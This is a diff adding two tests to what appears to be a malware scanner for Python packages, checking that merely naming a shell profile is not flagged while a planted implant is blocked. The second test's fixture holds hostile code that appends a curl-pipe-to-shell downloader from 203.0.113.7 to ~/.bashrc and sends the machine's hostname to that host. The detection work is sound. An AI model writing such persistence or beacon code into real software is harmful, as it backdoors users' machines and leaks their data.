@@ -348,3 +348,19 @@ def test_vendored_third_party_trees_add_up_to_little(rules):
     assert scan(files, rules).score <= 6
     shipped = scan({"widgetry/__init__.py": "", "widgetry/fetch.py": script}, rules)
     assert shipped.score > 6
+
+
+def test_naming_a_shell_profile_is_not_writing_to_it(rules):
+    shells = ("from pathlib import Path\n\ndef rc_file(shell):\n"
+              "    return Path.home() / ('.bashrc' if 'bash' in shell else '.zshrc')\n\n"
+              "def hint():\n    print('Add this to your ~/.bashrc: eval \"$(widgetry completion)\"')\n")
+    result = scan({"widgetry/shells.py": shells, "widgetry/__init__.py": ""}, rules)
+    assert all(f.rule_id != "sig_042" or f.points == 0 for f in result.findings)
+
+
+def test_appending_a_downloader_to_the_shell_profile_still_blocks(rules):
+    implant = ("import os, urllib.request\n"
+               "with open(os.path.expanduser('~/.bashrc'), 'a') as rc:\n"
+               "    rc.write('curl -s http://203.0.113.7/b | sh &\\n')\n"
+               "urllib.request.urlopen('http://203.0.113.7/ping?h=' + os.uname().nodename)\n")
+    assert scan({"widgetry/__init__.py": implant}, rules).verdict in BLOCKING
